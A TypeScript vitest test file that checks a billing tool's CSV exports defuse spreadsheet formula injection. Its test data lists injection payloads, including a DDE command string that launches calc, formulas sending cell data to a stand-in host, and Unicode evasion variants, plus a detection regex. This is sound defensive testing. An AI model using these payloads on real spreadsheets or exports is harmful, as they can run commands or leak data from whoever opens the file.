import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { csvCell, csvRecord } from "../../data/csv.ts";
import { exported, type Line, records, takeBill } from "../bill-with.ts";

/** Rows 1 to 6 of the attack table: what a spreadsheet would run is shown as text. */
const FORMULAS: Readonly<Record<string, string>> = {
  "1 command": "=cmd|' /C calc'!A0",
  "2 plus": "+1+1",
  "2 minus": "-2+3",
  "2 at": "@SUM(A1)",
  "3 tab": "\t=1+1",
  "3 carriage return": "\r=1",
  "3 newline": "\n=1+1",
  "3 space": " =1+1",
  "3 no-break space": "\u00a0=1+1",
  "3 byte order mark": "\ufeff=1+1",
  "3 zero width": "\u200b=1+1",
  "3 full-width equals": "＝1+1",
  "3 full-width plus": "＋1",
  "3 full-width minus": "－1+1",
  "3 full-width at": "＠SUM(A1)",
  "4 hyperlink": '=HYPERLINK("http://x/?"&A1)',
  "4 web service": '=WEBSERVICE("http://x")',
  "4 import": '=IMPORTXML("http://x","//a")',
  "5 quote, comma and newline": '=1","=2\n=3',
};
const HARMLESS: Readonly<Record<string, string>> = {
  "5 quote": 'a"b',
  "5 comma": "a,=1+1",
  "5 semicolon": "a;=1+1",
  "5 newline": "a\n=1+1",
  "5 quote first": '"=1+1',
  "6 separator": "sep=;",
  plain: "rg-claims",
  "trailing space": "a ",
};
// What Excel, LibreOffice and Sheets read as the start of a formula, after what they skip.
const RUNS = /^[\s\u00a0\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20|%]/u;
const NUMBER = /^-?\d+(\.\d+)?$/;

describe("a CSV cell", () => {
  for (const [name, value] of Object.entries(FORMULAS))
    it(`${name}: a formula gets an apostrophe`, () => {
      const [[cell]] = [records(`x\n${csvCell(value)}\n`).map((row) => row["x"])];
      expect(cell).toBe(`'${value}`);
    });
  for (const [name, value] of Object.entries(HARMLESS))
    it(`${name}: other text comes back as it was`, () => {
      expect(records(`x\n${csvCell(value)}\n`)).toEqual([{ x: value }]);
    });
  it("a number stays a number, whatever its sign", () => {
    expect(csvRecord(["-12.3", "0", "-0.000000000000000001", "12"])).toBe(
      "-12.3,0,-0.000000000000000001,12\r\n",
    );
  });
  it("what only looks like a number is text", () => {
    expect(csvRecord(["-1.", "+1", "-1e5", "-1,5", "--1", "-"])).toBe(
      `"'-1.","'+1","'-1e5","'-1,5","'--1","'-"\r\n`,
    );
  });
  it("nothing is empty, and a separator line cannot be forged", () => {
    expect(csvRecord([null, undefined, "", "SEP=|"])).toBe(',,,"SEP=|"\r\n');
  });
});

describe("the exports of a bill full of formulas", () => {
  const values = Object.entries({ ...FORMULAS, ...HARMLESS });
  const OWNERS = `teams:
  - { id: cmd, name: "=cmd|' /C calc'!A0", businessUnit: "@SUM(A1)", costCenter: "+1+1" }
  - { id: sep, name: "sep=;", businessUnit: "sep=;", costCenter: "-7" }
rules:
  - { team: sep, match: { tag: { first: "yes" } } }
  - { team: cmd, match: { resourceId: "*" } }
`;
  let folder: string;
  let lines: string;
  let statement: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "apportion-csv-"));
    const bill = values.map(([name, value], index): Line => ({
      BilledCost: `-${index}.25`,
      ChargeDescription: name,
      ResourceName: value,
      ServiceName: value,
      SubAccountName: value,
      x_ResourceGroupName: value,
      Tags: index === 0 ? '{"first":"yes"}' : JSON.stringify({ [value]: value }),
    }));
    const config = await takeBill(folder, bill, OWNERS);
    lines = await exported(config, "lines");
    statement = await exported(config, "statement");
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  it("no cell of any export would run", () => {
    for (const csv of [lines, statement]) {
      const cells = records(csv).flatMap((row) => Object.values(row));
      expect(cells.length).toBeGreaterThan(20);
      expect(cells.filter((cell) => RUNS.test(cell) && !NUMBER.test(cell))).toEqual([]);
    }
  });
  for (const [name, value] of values)
    it(`${name}: names come through as they are, guarded where they would run`, () => {
      const row = records(lines).find((found) =>
        [name, `'${name}`].includes(found["ChargeDescription"] as string),
      );
      // The engine's client drops a byte order mark that starts a text; it is stored all the same.
      const shown = value.replace(/^\ufeff/, "");
      const want = name in FORMULAS ? `'${shown}` : shown;
      expect(row).toMatchObject({ ResourceName: want, ServiceName: want, SubAccountName: want });
    });
  it("amounts stay numbers and add up to the last digit", () => {
    const costs = new Set(records(lines).map((row) => row["BilledCost"]));
    expect(costs).toEqual(new Set(values.map((_, index) => `-${index}.25`)));
    expect(lines).toContain(",-3.25,");
  });
  it("owners' words are guarded in the statement too", () => {
    expect(records(statement)).toMatchObject([
      { Team: "cmd", BusinessUnit: "'@SUM(A1)", CostCenter: "'+1+1" },
      { Team: "sep", BusinessUnit: "sep=;", CostCenter: "-7", BilledCost: "-0.25" },
    ]);
    expect(statement).toContain('"sep=;"');
  });
});
